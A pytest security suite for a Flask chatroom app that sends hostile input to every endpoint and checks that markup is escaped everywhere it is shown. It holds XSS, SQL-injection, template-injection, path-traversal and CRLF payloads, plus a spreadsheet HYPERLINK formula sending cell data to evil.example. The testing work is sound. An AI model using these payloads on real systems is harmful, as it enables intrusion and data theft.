"""Hostile input: every endpoint, every method, as the owner and as a participant, fed garbage.

Two promises are checked:

1. **No 5xx, ever, and no redirect off the site.** Long strings, NUL bytes, invalid UTF-8, template and SQL
   syntax, path traversal, huge and negative numbers, Unicode bidi and zero-width
   characters, ``javascript:`` links, JSON sent as a form, fields missing or given
   twice, a hundred fields, and a body over ``MAX_CONTENT_LENGTH``: whatever the
   request, the answer is a page with a human sentence and a 4xx (or it works). A
   body that is too large gets 413 and says so.
2. **Hostile text is inert wherever it is shown.** A message, an alias, a room
   title, a facilitator's name, a report reason and a held message, each carrying
   markup, come back escaped in every page, fragment, event and transcript that
   shows them.

The crawl walks the URL map (so a new endpoint is crawled without anyone asking),
building each URL from the same world as ``test_authorization``.
"""

from __future__ import annotations

import json
import re
import secrets
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask
from werkzeug.datastructures import MultiDict

from chatroom.errors import MESSAGES
from chatroom.extensions import db
from chatroom.models import Facilitator, Room
from chatroom.services import rooms
from chatroom.sse import parse
from support.app import fast_app_fixture
from support.clients import Client
from support.constants import PASSWORD, ROOM_PASSWORD
from support.policy import EXPECTED
from support.world import BODIES, World, build_world, client_for, url_of

# -- hostile values ---------------------------------------------------------------------------

TEXT = [
    "x" * 10_000,
    "a\x00b",
    "<script>alert(1)</script>",
    "{{7*7}}{% if 1 %}{{ config }}{% endif %}",
    "' OR 1=1 --; DROP TABLE rooms;",
    "../../etc/passwd",
    "9" * 40,
    "-1",
    "²³",  # str.isdigit() says yes, int() says no
    "１２",  # full-width digits: int() reads them
    "\u202egnp.exe\u200b\u2066\ufeff",
    "javascript:alert(document.cookie)",
    "//evil.example/%2e%2e",
    "\r\nSet-Cookie: pwned=1",
    "😀" * 50,
    "",
]
# Values for string URL arguments (a room code, a format, a setting's name, a reset token).
PATH_TEXT = ["a\x00b", "../../etc/passwd", "x" * 300, "<script>", "²", "\u202e\u200b", "%2e%2e%2f", "' OR 1=1 --"]
# Values for integer URL arguments: beyond 32 and 64 bits (negative ones do not match an <int:> rule).
BIG_NUMBERS = [2**31, 2**63, 10**30]
# Every form field any endpoint reads, so each gets the hostile value whatever it is called.
FIELDS = [
    "body",
    "token",
    "alias",
    "password",
    "title",
    "starts_at",
    "ends_at",
    "timezone",
    "search_language",
    "confirm",
    "minutes",
    "seconds",
    "days",
    "enabled",
    "reason",
    "next",
    "theme",
    "autorefresh",
    "email",
    "name",
    "code",
    "recovery_code",
    "current_password",
    "codes_password",
    "disable_password",
    "token_name",
    "mode",
    "note",
    "invite",
    "emoji",
    "question",
    "answered",
    "seq",
]
QUERY = ["before", "after", "rev", "next", "method", "invite", "q", "by"]
TOO_LARGE = MESSAGES[413]


# -- the crawl ---------------------------------------------------------------------------------


crawl_app = fast_app_fixture()


def _routes(app: Flask) -> list[tuple[str, str]]:
    return sorted(
        (rule.endpoint, method)
        for rule in app.url_map.iter_rules()
        if rule.endpoint != "static"
        for method in (rule.methods or set()) - {"HEAD", "OPTIONS"}
    )


def _endpoints() -> list[tuple[str, str]]:
    """Known at collection time from the table; the URL map is checked against it in test_authorization.

    The JSON API (``api.*``) is left to ``tests/test_api_schema.py``: its bodies are JSON, which this
    form crawl cannot send, and schemathesis generates hostile ones from the API's own document.
    """
    return [
        (endpoint, method)
        for endpoint, by_method in EXPECTED.items()
        if not endpoint.startswith("api.")
        for method in by_method
    ]


def _string_args(app: Flask, endpoint: str) -> list[str]:
    rule = next(r for r in app.url_map.iter_rules() if r.endpoint == endpoint)
    return [name for name, conv in rule._converters.items() if type(conv).__name__ == "UnicodeConverter"]


def _int_args(app: Flask, endpoint: str) -> list[str]:
    rule = next(r for r in app.url_map.iter_rules() if r.endpoint == endpoint)
    return [name for name, conv in rule._converters.items() if type(conv).__name__ == "IntegerConverter"]


def _send(client: Client, method: str, url: str, **kwargs: Any) -> tuple[int, str]:
    status, body, _ = _exchange(client, method, url, **kwargs)
    return status, body


def _exchange(client: Client, method: str, url: str, **kwargs: Any) -> tuple[int, str, str]:
    """(status, body, Location); the CSRF token rides in the header, as htmx sends it."""
    if method == "GET":
        response = client.get(url, buffered=False, **kwargs)
    else:
        headers = {"X-CSRFToken": client.csrf(), **kwargs.pop("headers", {})}
        response = client.open(url, method=method, buffered=False, headers=headers, **kwargs)
    try:
        streamed = response.mimetype == "text/event-stream"
        body = "" if streamed else response.get_data(as_text=True)
        return response.status_code, body, response.headers.get("Location", "")
    finally:
        response.close()


def requests_for(app: Flask, world: World, endpoint: str, method: str, role: str) -> Iterator[tuple[str, dict]]:
    """(url, request keyword arguments) for every hostile variant of one endpoint and method."""
    base = url_of(app, world, endpoint)
    valid = BODIES.get((endpoint, method), lambda w, r: {})(world, role)
    hx = {"HX-Request": "true"}
    for index, value in enumerate(TEXT):
        headers = hx if index % 2 else {}
        if method == "GET":
            path, _, _ = base.partition("?")
            yield path, {"query_string": dict.fromkeys(QUERY, value), "headers": headers}
        else:
            yield base, {"data": {**valid, **dict.fromkeys(FIELDS, value)}, "headers": headers}
            names = [*valid, "next"]  # and one bad field among good ones, a different one each time
            yield base, {"data": {**valid, names[index % len(names)]: value}, "headers": headers}
    for name in _string_args(app, endpoint):
        for value in PATH_TEXT:
            yield _url(app, world, endpoint, {name: value}), {"data": valid} if method == "POST" else {}
    for name in _int_args(app, endpoint):
        for number in BIG_NUMBERS:
            yield _url(app, world, endpoint, {name: number}), {"data": valid} if method == "POST" else {}
        yield _negative(base), {}
    if method == "POST":
        fields = "&".join(f"{f}=%C0%80%FF%FE" for f in FIELDS).encode() + b"&x=\xff\xfe\xc3\x28"
        yield base, {"data": fields, "content_type": "application/x-www-form-urlencoded"}  # invalid UTF-8
        yield base, {"data": json.dumps(valid), "content_type": "application/json"}  # JSON, not a form
        yield base, {"data": json.dumps(valid), "content_type": "text/plain"}
        yield base, {"data": {}}  # every field missing
        yield base, {"data": MultiDict([(k, v) for k in valid for v in (valid[k], "<b>second</b>")])}  # twice
        yield base, {"data": {**valid, **{f"f{i}": "x" for i in range(100)}}}  # 100 fields, urlencoded
    else:
        yield base, {"headers": {"Last-Event-ID": "99999999999999999999.-1"}}
        yield base, {"headers": {"Last-Event-ID": "\xb2", **hx}}


def _url(app: Flask, world: World, endpoint: str, overrides: dict[str, Any]) -> str:
    return url_of(app, world, endpoint, overrides)


def _negative(url: str) -> str:
    """The URL with its last number made negative (no <int:> rule matches: a plain 404)."""
    return re.sub(r"/(\d+)(/[a-z]*)?$", r"/-\1\2", url)


def _server_errors(app: Flask, endpoint: str, method: str, role: str) -> list[str]:
    world = build_world(app)
    client = client_for(app, world, role)
    errors = []
    for url, kwargs in requests_for(app, world, endpoint, method, role):
        status, _, location = _exchange(client, method, url, **kwargs)
        if status >= 500:
            errors.append(f"{status} {method} {url[:120]} {_describe(kwargs)}")
        target = urlsplit(location)
        if target.netloc not in ("", "localhost") or target.scheme not in ("", "http") or location.startswith("//"):
            errors.append(f"redirect off the site to {location!r}: {method} {url[:120]} {_describe(kwargs)}")
    return errors


def _describe(kwargs: dict[str, Any]) -> str:
    shown = {k: (v if len(repr(v)) < 100 else repr(v)[:100] + "…") for k, v in kwargs.items()}
    return repr(shown)


CRAWL = [pytest.param(e, m, id=f"{e}-{m}") for e, m in _endpoints()]


@pytest.mark.parametrize(("endpoint", "method"), CRAWL)
@pytest.mark.parametrize("role", ["owner", "participant"])
def test_no_server_error_whatever_is_sent(crawl_app, endpoint, method, role):
    if (endpoint, method) not in _routes(crawl_app):
        pytest.skip(f"{endpoint} {method} is not in this build")
    errors = _server_errors(crawl_app, endpoint, method, role)
    assert not errors, f"{len(errors)} server errors:\n" + "\n".join(errors)


# -- sizes ------------------------------------------------------------------------------------------


def test_every_post_over_the_size_limit_gets_413_and_a_sentence(crawl_app):
    world = build_world(crawl_app)
    client = client_for(crawl_app, world, "owner")
    posts = [(e, m) for e, m in _routes(crawl_app) if m == "POST"]
    for endpoint, _ in posts:
        url = url_of(crawl_app, world, endpoint)
        for kwargs in (
            {"data": {"body": "x" * 70_000}},
            {"data": {"body": "x" * 70_000}, "content_type": "multipart/form-data"},
            {"data": "x" * 70_000, "content_type": "application/json"},
        ):
            status, body = _send(client, "POST", url, **kwargs)
            assert status == 413, f"{endpoint}: {status} for a 70 KB body"
            assert TOO_LARGE in body


def test_a_multipart_form_with_too_many_parts_is_refused(crawl_app):
    world = build_world(crawl_app)
    client = client_for(crawl_app, world, "participant")
    status, body = _send(
        client,
        "POST",
        f"/r/{world.room_a}/typing",
        data={f"f{i}": "x" for i in range(100)},
        content_type="multipart/form-data",
    )
    assert status == 413 and TOO_LARGE in body


def test_error_pages_say_what_to_do_in_a_sentence(crawl_app):
    world = build_world(crawl_app)
    client = client_for(crawl_app, world, "participant")
    for url, status in ((f"/r/{world.room_a}/nowhere", 404), (f"/r/{world.room_a}/messages?before=x", 400)):
        got, body = _send(client, "GET", url)
        assert got == status
        assert MESSAGES[status] in body and "<h1>" in body
    got, body = _send(client, "GET", f"/r/{world.room_a}/messages?before=x", headers={"HX-Request": "true"})
    assert got == 400 and "<html" not in body and MESSAGES[400] in body


# Crashes the crawl once found, each kept as its own precise regression test (docs/security.md, "Findings, fixed").


def test_integer_url_arguments_beyond_64_bits_are_404(crawl_app):
    world = build_world(crawl_app)
    owner = client_for(crawl_app, world, "owner")
    for path in ("messages/{n}", "members/{n}/remove", "queue/{n}/approve", "reports/{n}/dismiss"):
        url = f"/r/{world.room_a}/" + path.format(n=2**63)
        status, _ = _send(owner, "GET" if path == "messages/{n}" else "POST", url)
        assert status == 404, url


def test_superscript_digits_are_refused_not_crashed_on(crawl_app):
    world = build_world(crawl_app)
    participant = client_for(crawl_app, world, "participant")
    owner = client_for(crawl_app, world, "owner")
    code = world.room_a
    for url in (f"/r/{code}?before=²", f"/r/{code}/newer?after=²", f"/r/{code}/events?after=²"):
        assert _send(participant, "GET", url)[0] == 400, url
    for name, field in (("extend", "minutes"), ("slow-mode", "seconds"), ("retention", "days")):
        assert _send(owner, "POST", f"/rooms/{code}/settings/{name}", data={field: "²"})[0] == 422, name


def test_room_times_at_the_edge_of_the_calendar_are_refused(crawl_app):
    world = build_world(crawl_app)
    owner = client_for(crawl_app, world, "owner")
    form = {"title": "Edge", "password": ROOM_PASSWORD, "timezone": "Etc/GMT+12"}
    status, page = _send(
        owner, "POST", "/rooms/", data={**form, "starts_at": "2026-01-01T00:00", "ends_at": "9999-12-31T23:59"}
    )
    assert status == 422
    assert "The end must fall between the years 2000 and 2200" in page  # says why, not "enter a date"


def test_a_nul_byte_in_a_room_code_is_404(crawl_app):
    world = build_world(crawl_app)
    owner = client_for(crawl_app, world, "owner")
    assert _send(owner, "GET", "/r/abc%00def")[0] == 404
    assert _send(owner, "GET", "/rooms/abc%00def")[0] == 404


def test_a_nul_byte_in_an_email_address_is_refused(crawl_app):
    """Sign-in, sign-up and the reset form: PostgreSQL refuses NUL in text, so it must never get that far."""
    world = build_world(crawl_app)
    client = client_for(crawl_app, world, "anonymous")
    if "auth.forgot_password" in crawl_app.view_functions:
        assert _send(client, "POST", "/password/forgot", data={"email": "a\x00b@example.org"})[0] == 422
    assert _send(client, "POST", "/login", data={"email": "a\x00b@example.org", "password": PASSWORD})[0] == 403
    signup = {"email": "nul\x00@example.org", "name": "Nul", "password": PASSWORD}
    assert _send(client, "POST", "/signup", data=signup)[0] == 303  # the control character is dropped
    with crawl_app.app_context():
        emails = db.session.scalars(db.select(Facilitator.email)).all()
        assert "nul@example.org" in emails and not any("\x00" in e for e in emails)


# -- inert rendering ---------------------------------------------------------------------------------

MARKUP = {
    "alias": "<img src=x onerror=alert(1)>",
    "body": '<script>alert("m")</script>{{7*7}}',
    "title": "<svg onload=alert(1)>\"'&",
    "name": "<b onmouseover=alert(2)>Host</b>",
    "reason": "\"><script>alert('r')</script>",
    "held": "<iframe src=javascript:alert(3)>",
}
RAW = ["<img src=x", "<script>alert", "<svg onload", "<b onmouseover", "<iframe src", '"><script']
ESCAPED = ["&lt;img src=x", "&lt;script&gt;alert", "&lt;svg onload", "&lt;b onmouseover", "&lt;iframe src"]


@pytest.fixture
def marked_up(crawl_app):
    """A room whose every user-written string carries markup, and clients for its owner and a participant."""
    app = crawl_app
    world = build_world(app)
    with app.test_request_context():
        owner = db.session.scalar(db.select(Facilitator).where(Facilitator.email == world.owner_email))
        owner.name = MARKUP["name"]
        db.session.commit()
        room = db.session.get(Room, world.room_a_id)
        start, end = room.starts_at, room.ends_at
        room = rooms.create(owner, rooms.RoomInput(MARKUP["title"], start, end, "UTC", ROOM_PASSWORD))
        code = room.code
        db.session.remove()
    owner_client = client_for(app, world, "owner")
    participant = client_for(app, world, "anonymous")
    assert participant.form(f"/r/{code}/join", {"alias": MARKUP["alias"], "password": ROOM_PASSWORD}).status_code == 303
    other = client_for(app, world, "anonymous")
    assert other.form(f"/r/{code}/join", {"alias": "Kim", "password": ROOM_PASSWORD}).status_code == 303
    for client, text in ((participant, MARKUP["body"]), (other, "plain")):
        assert client.form(f"/r/{code}/messages", {"body": text, "token": secrets.token_hex(16)}).status_code == 303
    assert other.form(f"/r/{code}/messages/1/report", {"reason": MARKUP["reason"]}).status_code == 303
    mention = {"body": f"@{MARKUP['alias']} {MARKUP['body']}", "token": secrets.token_hex(16), "question": "1"}
    assert other.form(f"/r/{code}/messages", mention).status_code == 303  # a mention of the marked-up alias
    assert other.form(f"/r/{code}/messages/1/react", {"emoji": "heart"}).status_code == 303
    assert participant.form(f"/r/{code}/private", {"note": MARKUP["body"]}).status_code == 303
    assert owner_client.form(f"/rooms/{code}/settings/premoderation", {"enabled": "1"}).status_code == 303
    assert (
        participant.form(f"/r/{code}/messages", {"body": MARKUP["held"], "token": secrets.token_hex(16)}).status_code
        == 303
    )
    return code, owner_client, participant


def _assert_inert(where: str, text: str) -> None:
    if "markdown" in where:  # Markdown shows a backslash-escaped character as itself
        text = text.replace("\\<", "&lt;")
    for raw in RAW:
        assert raw not in text, f"{where}: {raw!r} is live markup"


def test_hostile_text_is_escaped_in_every_page_and_fragment(marked_up):
    code, owner, participant = marked_up
    hx = {"HX-Request": "true"}
    pages = {
        "participant room": (participant, f"/r/{code}", {}),
        "participant message": (participant, f"/r/{code}/messages/1", {}),
        "participant history fragment": (participant, f"/r/{code}/messages?before=99", hx),
        "participant newer fragment": (participant, f"/r/{code}/newer?after=0", hx),
        "participant newer page": (participant, f"/r/{code}/newer?after=0", {}),
        "participant search": (participant, f"/r/{code}/search?q=alert", {}),
        "participant questions": (participant, f"/r/{code}/questions", {}),
        "host room": (owner, f"/r/{code}", {}),
        "host message": (owner, f"/r/{code}/messages/1", {}),
        "host console": (owner, f"/rooms/{code}", {}),
        "dashboard": (owner, "/rooms/", {}),
        "dashboard fragment": (owner, "/rooms/", hx),
        "edit form": (owner, f"/rooms/{code}/edit", {}),
        "delete form": (owner, f"/rooms/{code}/delete", {}),
        "audit log": (owner, f"/rooms/{code}/audit", {}),
        "transcript page": (owner, f"/rooms/{code}/transcript.html", {}),
        "transcript markdown": (owner, f"/rooms/{code}/transcript.md", {}),
    }
    seen = ""
    for where, (client, url, headers) in pages.items():
        status, text = _send(client, "GET", url, headers=headers)
        assert status == 200, f"{where}: {status}"
        _assert_inert(where, text)
        seen += text
    for escaped in ESCAPED:  # every payload was shown somewhere, escaped
        assert escaped in seen, f"{escaped!r} never shown"
    assert "{{7*7}}" in seen  # shown as typed, never evaluated


def test_the_join_page_shows_a_hostile_title_as_text(marked_up, crawl_app):
    code, _, _ = marked_up
    stranger = crawl_app.test_client()
    status, text = _send(stranger, "GET", f"/r/{code}")
    assert status == 200 and "&lt;svg onload" in text
    _assert_inert("join page", text)


def test_downloads_are_attachments_that_no_browser_renders_as_a_page(marked_up):
    code, owner, _ = marked_up
    for fmt, mimetype in (("csv", "text/csv"), ("json", "application/json"), ("md", "text/markdown")):
        response = owner.get(f"/rooms/{code}/transcript.{fmt}")
        try:
            assert response.mimetype == mimetype
            assert response.headers["Content-Disposition"].startswith("attachment;")
            assert response.headers["X-Content-Type-Options"] == "nosniff"
        finally:
            response.close()
    data = json.loads(owner.get(f"/rooms/{code}/transcript.json").get_data(as_text=True))
    assert data["room"] == MARKUP["title"] and data["messages"][0]["text"] == MARKUP["body"]


def _stream_events(client: Client, url: str, want: int) -> list[dict[str, str]]:
    """Read the stream until ``want`` message events have come (it never blocks for long: 1 s heartbeats)."""
    response = client.get(url, buffered=False)
    try:
        assert response.status_code == 200
        raw = b""
        for index, chunk in enumerate(response.response):
            raw += chunk
            if sum(1 for e in parse(raw) if "id" in e and "data" in e) >= want or index > 20:
                break
        return parse(raw)
    finally:
        response.close()


def test_hostile_text_is_escaped_in_the_event_stream(marked_up):
    code, owner, participant = marked_up
    for who, client in (("participant", participant), ("host", owner)):
        events = _stream_events(client, f"/r/{code}/events?after=0&rev=0", want=2)
        data = "\n".join(e.get("data", "") for e in events)
        _assert_inert(f"{who} stream", data)
        assert "&lt;script&gt;alert" in data and "&lt;img src=x" in data
        if who == "host":
            assert "&lt;iframe src" in data  # the held message, in the host's panels only
        else:
            assert "iframe" not in data and "&#34;&gt;&lt;script" not in data


def test_csv_transcript_cannot_smuggle_spreadsheet_formulas(crawl_app):
    world = build_world(crawl_app)
    owner = client_for(crawl_app, world, "owner")
    participant = client_for(crawl_app, world, "participant")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    page = participant.form(f"/r/{world.room_a}/messages", {"body": formula, "token": secrets.token_hex(16)})
    assert page.status_code == 303
    import csv
    import io

    text = owner.get(f"/rooms/{world.room_a}/transcript.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells if cell != "-"), cells


@pytest.mark.parametrize(
    "alias",
    [
        "olive owner",
        "ＯＬＩＶＥ\u3000ＯＷＮＥＲ",  # full width
        "Olive\u00a0 Owner",  # no-break and doubled spaces
        "𝐎𝐥𝐢𝐯𝐞 𝐎𝐰𝐧𝐞𝐫",  # mathematical bold
        "Olive Owner\u200b\u202e",  # invisible and bidi tails
        "Olive Owner\U000e0041",  # a tag character
    ],
)
def test_nobody_can_join_under_a_look_alike_of_the_hosts_name(crawl_app, alias):
    world = build_world(crawl_app)  # the owner is "Olive Owner"
    client = client_for(crawl_app, world, "anonymous")
    status, body = _send(client, "POST", f"/r/{world.room_a}/join", data={"alias": alias, "password": ROOM_PASSWORD})
    assert status == 409 and "already uses this alias" in body
